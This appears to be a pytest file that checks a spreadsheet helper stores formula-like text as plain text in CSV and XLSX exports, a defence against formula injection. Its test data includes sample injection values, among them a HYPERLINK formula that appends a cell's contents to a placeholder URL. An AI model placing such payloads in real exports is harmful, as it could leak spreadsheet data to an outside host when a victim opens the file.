"""core.spreadsheet: formula-like text stays text in CSV and XLSX; every export uses it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from neue_wege.core import spreadsheet

HOSTILE = ['=HYPERLINK("http://x"&B3,"Details")', "-2+3", "+49 2861", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]
PACKAGE = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_prefixes_formula_like_text_and_leaves_numbers(text):
    buffer = io.StringIO()
    spreadsheet.writer(buffer, delimiter=";").writerow([text, -5, 2.5, "Bocholt", ""])
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert row == ["'" + text, "-5", "2.5", "Bocholt", ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_stores_formula_like_text_as_text_and_numbers_as_numbers(text):
    book = Workbook()
    spreadsheet.append(book.active, [text, -5, 2.5, "Bocholt"])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = list(load_workbook(buffer).active[1])
    # XML reads a carriage return back as a line feed; the cell stays text either way.
    assert (cells[0].value, cells[0].data_type) == (text.replace("\r", "\n"), "s")
    assert cells[0].quotePrefix
    assert [(c.value, c.data_type) for c in cells[1:]] == [(-5, "n"), (2.5, "n"),
                                                           ("Bocholt", "s")]


def test_openpyxl_alone_would_write_a_formula():
    """The hazard is real: without the helper the cell is a live formula."""
    book = Workbook()
    book.active.append([HOSTILE[0]])
    assert book.active["A1"].data_type == "f"


def test_every_module_that_writes_a_spreadsheet_goes_through_the_helper():
    """A new export (CSV or Excel) must use core.spreadsheet, not csv.writer or sheet.append."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheet.py" or "migrations" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        writes_csv = re.search(r"csv\.(writer|DictWriter)\(", text)
        writes_xlsx = re.search(r"^\s*(from|import) openpyxl", text, re.MULTILINE)
        if (writes_csv or writes_xlsx) and "core import spreadsheet" not in text:
            offenders.append(str(path.relative_to(PACKAGE)))
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            offenders.append(f"{path.relative_to(PACKAGE)}: raw csv writer")
    assert offenders == []
